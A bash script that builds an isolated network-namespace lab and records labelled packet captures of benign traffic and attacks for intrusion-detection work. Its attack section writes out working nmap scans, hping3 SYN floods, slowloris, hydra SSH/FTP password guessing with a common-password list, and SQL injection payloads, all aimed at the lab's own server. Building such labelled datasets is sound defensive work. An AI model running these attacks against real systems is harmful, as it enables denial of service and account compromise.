#!/usr/bin/env bash
# The metaids lab: a small network nobody here recorded before, with real services and real attack
# tools, captured activity by activity into labelled pcaps (OUT/*.pcap.gz and OUT/LABELS.md).
#
#   sudo scripts/lab/lab.sh OUT [ROUNDS] [SEED] [SITE]
#
# Three network namespaces made by this script and removed when it ends (also on Ctrl-C or error):
# a server namespace holding a bridge (10.77.0.1) with nginx (HTTP and TLS), a JSON API, dnsmasq,
# OpenSSH, vsftpd and an SMTP sink; a client namespace with 20 addresses (10.77.0.10-29) that use
# those services; an attacker namespace (10.77.0.66) running nmap, hping3, hydra, slowhttptest and
# curl-driven floods and injections against them. The namespaces have no route out and no link to
# the host's interfaces: nothing leaves them. Every loop is bounded and every tool runs under a
# timeout. Captures are taken on the bridge with a snap length of 96 bytes (headers; flow features
# use the IP length fields). ROUNDS (default 25) scales the benign traffic: about 180 benign flows
# per round (bulk transfers: one round of 20 per 25). SEED (default 1) seeds the benign mix.
# SITE (default a) picks the site: `b` is another network for choosing defaults on (a validation
# site, never reported as a test figure): 12 client addresses (10.77.0.110-121), other page, file
# and bulk sizes, a larger API catalogue, other SSH commands and longer mails; the same attack tools.
# `c` is a second validation site made to stress what a and b do not: 30 client addresses
# (10.77.0.150-179), browser-like page loads (a page and 4-11 objects fetched over up to 6 parallel
# connections, HTTP and TLS) and a monitoring host (10.77.0.9) that checks every service port each
# round, as Nagios-like checks do — bursts from one source and a benign "scan" of the open ports —
# with the attack tools run at other settings (other timings, ports, concurrency and payloads).
#
# Needs root and Debian packages (installed when missing): nginx-light dnsmasq-base openssh-server
# openssh-client vsftpd nmap hping3 hydra slowhttptest tcpdump curl dnsutils ethtool swaks
# python3-aiosmtpd iproute2 openssl.
set -euo pipefail

OUT=${1:?usage: lab.sh OUT [ROUNDS] [SEED]}
ROUNDS=${2:-25}
SEED=${3:-1}
SITE=${4:-a}
case "$SITE" in a|b|c) ;; *) echo "SITE must be a, b or c" >&2; exit 1 ;; esac
[ "$(id -u)" = 0 ] || { echo "lab.sh needs root (network namespaces)" >&2; exit 1; }
case "$ROUNDS" in ''|*[!0-9]*) echo "ROUNDS must be a number" >&2; exit 1 ;; esac
[ "$ROUNDS" -ge 1 ] && [ "$ROUNDS" -le 500 ] || { echo "ROUNDS must be 1..500" >&2; exit 1; }

need=()
for c in nginx:nginx-light dnsmasq:dnsmasq-base sshd:openssh-server ssh:openssh-client \
  vsftpd:vsftpd nmap:nmap hping3:hping3 hydra:hydra slowhttptest:slowhttptest tcpdump:tcpdump \
  curl:curl dig:dnsutils ethtool:ethtool swaks:swaks ip:iproute2 openssl:openssl; do
  bin=${c%%:*}; pkg=${c#*:}
  command -v "$bin" >/dev/null 2>&1 || [ -x "/usr/sbin/$bin" ] || need+=("$pkg")
done
/usr/bin/python3 -c 'import aiosmtpd' 2>/dev/null || need+=(python3-aiosmtpd)
if [ ${#need[@]} -gt 0 ]; then
  echo "installing: ${need[*]}"
  export DEBIAN_FRONTEND=noninteractive
  apt-get update -qq && apt-get install -y -qq --no-install-recommends "${need[@]}" >/dev/null
fi

mkdir -p "$OUT"
OUT=$(cd "$OUT" && pwd)
W=$(mktemp -d /tmp/metaids-lab.XXXXXX)
chmod 755 "$W"
S=mlab-s-$$; C=mlab-c-$$; A=mlab-a-$$
SRV=10.77.0.1; ATK=10.77.0.66
# Site a: 20 clients, pages of 2-19 kB (base64), FTP files of 1-39 kB, 200 API items.
# Site b: 12 clients, pages of 0.5-57 kB, FTP files of 5-100 kB, 1,000 API items.
# Site c: 30 clients and a monitor, pages of 1-30 kB, FTP files of 2-60 kB, 500 API items.
if [ "$SITE" = a ]; then
  FIRST=10; LAST=29; PAGE=(2000 900); FILE=(1000 2000); BULK=200000; ITEMS=200
  SSH_CMD="uptime; ls /tmp | head -3"; MAIL_LINES=1
elif [ "$SITE" = c ]; then
  FIRST=150; LAST=179; PAGE=(1000 1500); FILE=(2000 3000); BULK=500000; ITEMS=500
  SSH_CMD="id; date; tail -2 /etc/passwd"; MAIL_LINES=12
else
  FIRST=110; LAST=121; PAGE=(500 3000); FILE=(5000 5000); BULK=350000; ITEMS=1000
  SSH_CMD="df -h; cat /etc/os-release; ps -e | wc -l"; MAIL_LINES=40
fi
CLIENTS=(); for i in $(seq "$FIRST" "$LAST"); do CLIENTS+=("10.77.0.$i"); done

cleanup() {
  set +e
  for ns in "$S" "$C" "$A"; do
    ip netns pids "$ns" 2>/dev/null | xargs -r kill 2>/dev/null
  done
  sleep 0.5
  for ns in "$S" "$C" "$A"; do
    ip netns pids "$ns" 2>/dev/null | xargs -r kill -9 2>/dev/null
    ip netns del "$ns" 2>/dev/null
  done
  rm -rf "$W"
}
trap cleanup EXIT INT TERM

xs() { ip netns exec "$S" "$@"; }
xc() { ip netns exec "$C" "$@"; }
xa() { ip netns exec "$A" "$@"; }

echo "== network"
ip netns add "$S"; ip netns add "$C"; ip netns add "$A"
for ns in "$S" "$C" "$A"; do ip -n "$ns" link set lo up; done
ip -n "$S" link add br0 type bridge
ip -n "$S" addr add "$SRV/24" dev br0
ip -n "$S" link set br0 up
ip link add v-c netns "$C" type veth peer name v-c-s netns "$S"
ip link add v-a netns "$A" type veth peer name v-a-s netns "$S"
for v in v-c-s v-a-s; do
  ip -n "$S" link set "$v" master br0
  ip -n "$S" link set "$v" up
done
for a in "${CLIENTS[@]}"; do ip -n "$C" addr add "$a/24" dev v-c; done
MONITOR=10.77.0.9
[ "$SITE" = c ] && ip -n "$C" addr add "$MONITOR/24" dev v-c
ip -n "$A" addr add "$ATK/24" dev v-a
ip -n "$C" link set v-c up
ip -n "$A" link set v-a up
# Real-network packet sizes: no segmentation or receive offloads on the lab's links.
for pair in "$S:br0" "$S:v-c-s" "$S:v-a-s" "$C:v-c" "$A:v-a"; do
  ip netns exec "${pair%%:*}" ethtool -K "${pair#*:}" tso off gso off gro off tx off rx off >/dev/null 2>&1 || true
done

echo "== content"
mkdir -p "$W/www/api" "$W/www/bulk" "$W/ftp" "$W/run"
for i in $(seq 0 19); do
  head -c $((PAGE[0] + i * PAGE[1])) /dev/urandom | base64 >"$W/www/page$i.html"
  head -c $((FILE[0] + i * FILE[1])) /dev/urandom >"$W/ftp/file$i.bin"
done
for i in $(seq 0 4); do head -c $((BULK * (i + 1))) /dev/urandom >"$W/www/bulk/big$i.bin"; done
openssl req -x509 -newkey rsa:2048 -nodes -subj "/CN=lab.test" -days 2 \
  -keyout "$W/tls.key" -out "$W/tls.crt" >/dev/null 2>&1

echo "== services"
cat >"$W/nginx.conf" <<EOF
worker_processes 1;
pid $W/run/nginx.pid;
error_log $W/run/nginx.err;
events { worker_connections 4096; }
http {
  access_log off;
  client_body_temp_path $W/run/body; proxy_temp_path $W/run/proxy;
  fastcgi_temp_path $W/run/fcgi; uwsgi_temp_path $W/run/uwsgi; scgi_temp_path $W/run/scgi;
  server {
    listen $SRV:80; root $W/www;
    location /api/ { proxy_pass http://$SRV:8080; }
  }
  server {
    listen $SRV:443 ssl; root $W/www;
    ssl_certificate $W/tls.crt; ssl_certificate_key $W/tls.key;
    location /api/ { proxy_pass http://$SRV:8080; }
  }
}
EOF
xs nginx -c "$W/nginx.conf" -g 'daemon off;' >/dev/null 2>&1 &

cat >"$W/api.py" <<'EOF'
import json, sys, urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
ITEMS = {str(i): {"id": i, "name": f"item {i}", "price": i * 3} for i in range(int(sys.argv[2]))}
class H(BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def reply(self, code, obj):
        body = json.dumps(obj).encode()
        self.send_response(code); self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
    def do_GET(self):
        u = urllib.parse.urlparse(self.path); q = urllib.parse.parse_qs(u.query)
        if u.path == "/api/items": self.reply(200, ITEMS.get(q.get("id", ["0"])[0], {}))
        elif u.path == "/api/search":
            term = q.get("q", [""])[0]
            self.reply(200, [v for v in ITEMS.values() if term in v["name"]][:20])
        else: self.reply(404, {"error": "not found"})
    def do_POST(self):
        n = min(int(self.headers.get("Content-Length", "0") or 0), 1 << 20)
        data = self.rfile.read(n)
        self.reply(201, {"stored": len(data)})
ThreadingHTTPServer((sys.argv[1], 8080), H).serve_forever()
EOF
xs /usr/bin/python3 "$W/api.py" "$SRV" "$ITEMS" >/dev/null 2>&1 &

xs dnsmasq -k --no-resolv --no-hosts --bind-interfaces --listen-address="$SRV" \
  --address=/lab.test/"$SRV" --pid-file="$W/run/dnsmasq.pid" --user=root >/dev/null 2>&1 &

mkdir -p /run/sshd
ssh-keygen -q -t ed25519 -N '' -f "$W/hostkey"
ssh-keygen -q -t ed25519 -N '' -f "$W/clientkey"
cp "$W/clientkey.pub" "$W/authorized_keys"; chmod 600 "$W/authorized_keys"
cat >"$W/sshd_config" <<EOF
ListenAddress $SRV
HostKey $W/hostkey
PidFile $W/run/sshd.pid
AuthorizedKeysFile $W/authorized_keys
StrictModes no
PermitRootLogin yes
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
MaxAuthTries 6
MaxStartups 100:30:200
EOF
xs /usr/sbin/sshd -D -f "$W/sshd_config" >/dev/null 2>&1 &

mkdir -p /var/run/vsftpd/empty
cat >"$W/vsftpd.conf" <<EOF
listen=YES
listen_address=$SRV
background=NO
anonymous_enable=YES
anon_root=$W/ftp
no_anon_password=YES
local_enable=YES
write_enable=NO
pasv_enable=YES
pasv_min_port=40000
pasv_max_port=40100
secure_chroot_dir=/var/run/vsftpd/empty
seccomp_sandbox=NO
xferlog_enable=NO
max_login_fails=3
EOF
xs vsftpd "$W/vsftpd.conf" >/dev/null 2>&1 &

xs /usr/bin/python3 -m aiosmtpd -n -l "$SRV:25" >/dev/null 2>&1 &

# Wait (bounded) for every service.
for port in 80 443 8080 22 21 25; do
  for _ in $(seq 1 50); do
    if xc bash -c "exec 3<>/dev/tcp/$SRV/$port" 2>/dev/null; then break; fi
    sleep 0.2
  done
done
xc dig +short +tries=1 +time=2 @"$SRV" www.lab.test >/dev/null || { echo "dns not up" >&2; exit 1; }

echo "== captures in $OUT"
TCPDUMP_PID=
# `ip netns exec` execs tcpdump in place, so $! is tcpdump itself; SIGTERM (background jobs ignore
# SIGINT) makes it flush and exit.
start_capture() {
  ip netns exec "$S" tcpdump -i br0 -s 96 -U -w "$OUT/$1.pcap" "host $SRV" >/dev/null 2>&1 &
  TCPDUMP_PID=$!
  sleep 1
}
stop_capture() {
  sleep 2
  kill -TERM "$TCPDUMP_PID" 2>/dev/null || true
  wait "$TCPDUMP_PID" 2>/dev/null || true
}
LABELS=("| file | label | what |" "|---|---|---|")
label() { LABELS+=("| $1.pcap.gz | $2 | $3 |"); }

RANDOM=$SEED
# One benign action of service $1 from client address $2 with draws $3 (0-19) and $4 (0-32767),
# drawn by the caller so the mix follows SEED (each bounded by curl/ssh/dig timeouts).
benign() {
  local svc=$1 ip=$2 n=$3 m=$4
  case $svc in
    web) xc curl -s -m 10 --interface "$ip" "http://$SRV/page$n.html" -o /dev/null ;;
    tls) xc curl -sk -m 10 --interface "$ip" "https://$SRV/page$n.html" -o /dev/null ;;
    api)
      if [ $((n % 3)) = 0 ]; then
        xc curl -s -m 10 --interface "$ip" -H 'Content-Type: application/json' \
          -d "{\"name\":\"order $n\",\"qty\":$((n + 1))}" "http://$SRV/api/items" -o /dev/null
      else
        xc curl -s -m 10 --interface "$ip" "http://$SRV/api/items?id=$((m % ITEMS))" -o /dev/null
      fi ;;
    dns) xc dig +tries=1 +time=2 -b "$ip" @"$SRV" "host$n.lab.test" A >/dev/null ;;
    ftp) xc curl -s -m 20 --interface "$ip" "ftp://$SRV/file$n.bin" -o /dev/null ;;
    ssh) xc timeout 15 ssh -q -b "$ip" -i "$W/clientkey" -o StrictHostKeyChecking=no \
           -o UserKnownHostsFile=/dev/null -o BatchMode=yes "root@$SRV" "$SSH_CMD" >/dev/null ;;
    smtp) xc timeout 15 swaks --silent 2 --server "$SRV" --local-interface "$ip" \
            --from "user$n@lab.test" --to "team@lab.test" --header "Subject: report $n" \
            --body "$(for _ in $(seq 1 "$MAIL_LINES"); do echo "weekly figures $m"; done)" >/dev/null ;;
    bulk) xc curl -s -m 60 --interface "$ip" "http://$SRV/bulk/big$((n % 5)).bin" -o /dev/null ;;
    browse) # a page and 4-11 of its objects, up to 6 connections at once, over HTTP or TLS
      local scheme=http urls=()
      [ $((m % 2)) = 0 ] && scheme=https
      urls+=("$scheme://$SRV/page$n.html")
      for k in $(seq 1 $((4 + m % 8))); do urls+=("$scheme://$SRV/page$(( (n + k * 7) % 20 )).html"); done
      xc curl -sk -m 20 --interface "$ip" --parallel --parallel-max 6 --no-keepalive \
        $(for u in "${urls[@]}"; do printf -- '-o /dev/null %s ' "$u"; done) ;;
    monitor) # every service port checked from one host: connect-only checks and a page, a query
      xc timeout 10 /usr/bin/python3 -c 'import socket, sys
for port in (21, 22, 25, 80, 443, 8080):
    try:
        s = socket.create_connection((sys.argv[2], port), timeout=2, source_address=(sys.argv[1], 0))
        s.close()
    except OSError:
        pass' "$ip" "$SRV" || true
      xc curl -s -m 5 --interface "$ip" "http://$SRV/page0.html" -o /dev/null || true
      xc dig +tries=1 +time=2 -b "$ip" @"$SRV" "www.lab.test" A >/dev/null ;;
  esac
}

SERVICES=(web tls api dns ftp ssh smtp bulk)
[ "$SITE" = c ] && SERVICES+=(browse monitor)
for svc in "${SERVICES[@]}"; do
  echo "-- benign $svc"
  start_capture "benign-$svc"
  rounds=$ROUNDS
  [ "$svc" = bulk ] && rounds=$(( (ROUNDS + 24) / 25 ))
  hosts=("${CLIENTS[@]}")
  [ "$svc" = monitor ] && hosts=("$MONITOR")
  for _ in $(seq 1 "$rounds"); do
    pids=()
    for ip in "${hosts[@]}"; do
      n=$((RANDOM % 20)); m=$RANDOM
      (benign "$svc" "$ip" "$n" "$m" || true) &
      pids+=($!)
    done
    wait "${pids[@]}"
  done
  stop_capture
  label "benign-$svc" BENIGN "$svc clients on ${#hosts[@]} addresses, $rounds rounds"
done

echo "-- attacks"
PW="$W/passwords.txt"
for w in 123456 password admin root toor letmein qwerty 111111 abc123 dragon master monkey \
  shadow sunshine princess football baseball welcome login passw0rd trustno1 iloveyou \
  starwars hello freedom whatever qazwsx 654321 superman 1q2w3e4r michael pass test guest \
  changeme secret administrator oracle mysql ubuntu debian server backup support user1 \
  summer2024 winter2025 spring autumn lab labpass labadmin root123 admin123 p@ssw0rd; do
  echo "$w"; done >"$PW"

attack() { # name label what command...
  local name=$1 lbl=$2 what=$3; shift 3
  echo "-- $name"
  start_capture "$name"
  xa timeout 120 "$@" >/dev/null 2>&1 || true
  stop_capture
  label "$name" "$lbl" "$what"
}
if [ "$SITE" != c ]; then
  attack attack-nmap-syn portscan "nmap -sS top 1000 ports" nmap -sS -Pn -n -T4 --top-ports 1000 "$SRV"
  attack attack-nmap-connect portscan "nmap -sT ports 1-3000" nmap -sT -Pn -n -T4 -p 1-3000 "$SRV"
  attack attack-nmap-version service-probe "nmap -sV on the open ports" \
    nmap -sV -Pn -n -p 21,22,25,53,80,443,8080 --version-intensity 7 "$SRV"
  attack attack-hping-synflood syn-flood "hping3 -S -p 80, 3000 SYNs at 2 kpps" \
    hping3 -S -p 80 -i u500 -c 3000 "$SRV"
  attack attack-http-flood http-flood "1,500 GETs, 30 at a time" \
    bash -c "for i in \$(seq 1 1500); do echo \$((i % 20)); done | xargs -P 30 -I{} curl -s -m 5 -o /dev/null http://$SRV/page{}.html"
  attack attack-slowloris slowloris "slowhttptest -H, 200 connections" \
    slowhttptest -H -c 200 -i 10 -r 50 -l 40 -u "http://$SRV/" -p 3
  attack attack-slowbody slow-body "slowhttptest -B, 200 connections" \
    slowhttptest -B -c 200 -i 10 -r 50 -l 40 -s 8192 -u "http://$SRV/api/items" -t POST -p 3
  attack attack-hydra-ssh ssh-guessing "hydra ssh, root, 60 passwords" \
    hydra -l root -P "$PW" -t 4 -W 1 "ssh://$SRV"
  attack attack-hydra-ftp ftp-guessing "hydra ftp, two users, 60 passwords" \
    bash -c "hydra -l admin -P $PW -t 4 ftp://$SRV; hydra -l backup -P $PW -t 4 ftp://$SRV"
  attack attack-sqli sql-injection "600 injection requests against the API" \
    bash -c "for i in \$(seq 1 100); do for p in \"1' OR '1'='1\" \"1 UNION SELECT username,password FROM users--\" \"1; DROP TABLE items--\" \"' AND SLEEP(1)--\" \"1' AND extractvalue(1,concat(0x7e,version()))--\" \"admin'--\"; do curl -s -m 5 -o /dev/null -G --data-urlencode \"q=\$p\" --data-urlencode \"id=\$i\" http://$SRV/api/search; done; done"
else
  attack attack-nmap-syn portscan "nmap -sS -T3 top 500 ports" nmap -sS -Pn -n -T3 --top-ports 500 "$SRV"
  attack attack-nmap-connect portscan "nmap -sT ports 1000-2500 and 8000-8100" \
    nmap -sT -Pn -n -T4 -p 1000-2500,8000-8100 "$SRV"
  attack attack-nmap-version service-probe "nmap -sV on the open ports, intensity 5" \
    nmap -sV -Pn -n -p 21,22,25,53,80,443,8080 --version-intensity 5 "$SRV"
  attack attack-hping-synflood syn-flood "hping3 -S -p 443, 2000 SYNs at 1 kpps" \
    hping3 -S -p 443 -i u1000 -c 2000 "$SRV"
  attack attack-http-flood http-flood "1,200 API GETs, 50 at a time" \
    bash -c "for i in \$(seq 1 1200); do echo \$((i % 500)); done | xargs -P 50 -I{} curl -s -m 5 -o /dev/null http://$SRV/api/items?id={}"
  attack attack-slowloris slowloris "slowhttptest -H over TLS, 150 connections" \
    slowhttptest -H -c 150 -i 8 -r 30 -l 40 -u "https://$SRV/" -p 3
  attack attack-slowbody slow-body "slowhttptest -B, 150 connections, larger body" \
    slowhttptest -B -c 150 -i 12 -r 30 -l 40 -s 16384 -u "http://$SRV/api/items" -t POST -p 3
  attack attack-hydra-ssh ssh-guessing "hydra ssh, admin, 60 passwords, 6 tasks" \
    hydra -l admin -P "$PW" -t 6 -W 1 "ssh://$SRV"
  attack attack-hydra-ftp ftp-guessing "hydra ftp, one user, 60 passwords, 8 tasks" \
    hydra -l ftpadmin -P "$PW" -t 8 "ftp://$SRV"
  attack attack-sqli sql-injection "500 injection requests against the API search, other payloads" \
    bash -c "for i in \$(seq 1 100); do for p in \"x' OR 'a'='a\" \"1) UNION ALL SELECT NULL,table_name FROM information_schema.tables--\" \"1' WAITFOR DELAY '0:0:1'--\" \"1 AND 1=CONVERT(int,@@version)\" \"') OR ('1'='1\"; do curl -s -m 5 -o /dev/null -G --data-urlencode \"q=\$p\" --data-urlencode \"page=\$i\" http://$SRV/api/search; done; done"
fi

echo "== compress"
for f in "$OUT"/*.pcap; do gzip -9 -f "$f"; done
{
  echo "# metaids lab captures"
  echo
  echo "Recorded by \`scripts/lab/lab.sh $OUT $ROUNDS $SEED $SITE\` on $(date -u +%Y-%m-%d) in network namespaces"
  echo "(site $SITE: server 10.77.0.1, clients ${CLIENTS[0]}-${CLIENTS[-1]}, attacker 10.77.0.66), snap length 96."
  echo
  printf '%s\n' "${LABELS[@]}"
} >"$OUT/LABELS.md"
ls -la "$OUT"
echo "done"
